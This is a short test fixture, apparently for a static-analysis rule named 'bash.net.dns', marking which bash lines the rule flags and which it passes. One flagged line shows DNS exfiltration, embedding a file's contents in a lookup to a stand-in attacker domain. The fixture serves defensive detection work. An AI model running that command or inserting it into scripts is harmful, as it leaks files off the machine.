# ruleid: bash.net.dns
dig $(cat x).evil.example
# ruleid: bash.net.dns
nslookup example.com
# ok: bash.net.dns
hostname
